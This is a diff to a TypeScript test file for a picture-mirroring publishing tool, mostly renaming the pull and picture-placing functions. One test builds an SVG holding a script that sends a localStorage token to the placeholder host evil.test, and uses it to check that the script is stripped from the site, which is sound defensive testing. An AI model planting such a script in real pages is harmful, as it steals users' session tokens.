@@ -4,8 +4,8 @@ import { basename, join } from 'node:path'
 import { DatabaseSync } from 'node:sqlite'
 import sharp from 'sharp'
 import { afterAll, beforeAll, expect, it } from 'vitest'
-import { pull } from '#publishing/pull/pull.ts'
-import { placePictures } from '#publishing/site/pictures.ts'
+import { ingest } from '#publishing/pull/pull.ts'
+import { linkPictures } from '#publishing/site/pictures.ts'
 import { editSiteStore } from '#publishing/site/site-edit.ts'
 import { openSiteStore } from '#publishing/site/site-store.ts'
 import { recordsOf } from '#publishing/snapshot/records.ts'
@@ -41,8 +41,8 @@ afterAll(async () => {
   rmSync(folder, { recursive: true })
 })
 
-const pullNow = () =>
-  pull({
+const ingestNow = () =>
+  ingest({
     site: { configSource: 'demo0001', platform: remote.url, siteUrl: 'http://127.0.0.1' },
     file,
     fetchOptions: { backoffMs: 5, retries: 1 },
@@ -56,7 +56,7 @@ const heroNow = () => {
 }
 
 it("copies the large pictures and the banner to the site's own origin, with their size", async () => {
-  const { warnings } = await pullNow()
+  const { warnings } = await ingestNow()
   const { hero, none, banner } = heroNow()
   expect(hero?.map(({ width, height }) => [width, height])).toEqual([
     [640, 360],
@@ -72,7 +72,7 @@ it('shows a banner that lies on the site itself, and warns by name of one that c
   const config = remote.answers['/apps/configs/demo0001.json']
   const bannerAt = async (banner: string) => {
     remote.answers['/apps/configs/demo0001.json'] = { ...Object(config), assets: { banner } }
-    const { warnings } = await pullNow()
+    const { warnings } = await ingestNow()
     return { banner: heroNow().banner, warning: warnings.find((line) => line.startsWith('assets.banner')) }
   }
   try {
@@ -87,7 +87,7 @@ it('shows a banner that lies on the site itself, and warns by name of one that c
       })
   } finally {
     remote.answers['/apps/configs/demo0001.json'] = config
-    await pullNow()
+    await ingestNow()
   }
 })
 
@@ -97,7 +97,7 @@ it('puts next to the pages exactly what they name', async () => {
   const to = join(out, '_images')
   const store = openSiteStore(join(folder, 'site.sqlite'))
   const place = { edit: editSiteStore(store), snapshot, from: join(folder, 'images'), out, whole: true }
-  placePictures(place, [
+  linkPictures(place, [
     { kind: 'banner', id: '' },
     ...['film0001', 'film0002'].map((id) => ({ kind: 'hero' as const, id })),
   ])
@@ -113,7 +113,7 @@ it('keeps the copy of a picture that can no longer be had, and names a new one a
   const before = heroNow().hero
   remote.upset(background('film0001', 640), { status: 500 }, { status: 500 })
   remote.answers[background('film0001', 1280)] = picture(1280, 721)
-  await pullNow()
+  await ingestNow()
   const after = heroNow().hero
   expect(after?.[0]).toEqual(before?.[0])
   expect(after?.[1]?.height).toBe(721)
@@ -123,22 +123,22 @@ it('keeps the copy of a picture that can no longer be had, and names a new one a
 it('asks for an unchanged picture by its etag only', async () => {
   const etag = { headers: { etag: '"one"' }, body: picture(640, 360) }
   remote.upset(background('film0001', 640), etag, { status: 304 })
-  await pullNow()
-  await pullNow()
+  await ingestNow()
+  await ingestNow()
   expect(remote.etags).toEqual(['"one"'])
   expect(heroNow().hero?.[0]).toMatchObject({ width: 640, height: 360 })
 })
 
 it('says so when a picture is none', async () => {
   remote.answers[background('film0002', 640)] = '<html>Sorry</html>'
-  expect((await pullNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
+  expect((await ingestNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
 })
 
 it('an SVG of a publisher is shown as a sharp picture, and no script in it comes onto the site', async () => {
   const script = '<script>new Image().src = "//evil.test/" + localStorage.getItem("inplayer_token")</script>'
   remote.answers['/banner.svg'] = picture(300, 60, script)
   remote.answers[background('film0001', 1280)] = picture(1280, 722, script)
-  await pullNow()
+  await ingestNow()
   const { banner, hero } = heroNow()
   expect([banner, hero?.[1]]).toMatchObject([
     { width: 300, height: 60 },
@@ -158,7 +158,7 @@ it('a picture of a kind that browsers do not show is left out, with a warning', 
     .tiff()
     .toBuffer()
   remote.answers[background('film0002', 640)] = tiff
-  expect((await pullNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
+  expect((await ingestNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
   expect(heroNow().none).toEqual([])
 })
 
@@ -167,7 +167,7 @@ it('the copy of an SVG that an older version of the site kept is not shown again
   writeFileSync(join(folder, 'images', 'old.svg'), picture(300, 60))
   db.prepare('update image set etag = ?, file = ? where url = ?').run('"old"', 'old.svg', `${remote.url}/banner.svg`)
   db.close()
-  await pullNow()
+  await ingestNow()
   expect(heroNow().banner?.src).toMatch(/\.webp$/)
   expect(remote.etags).not.toContain('"old"')
 })
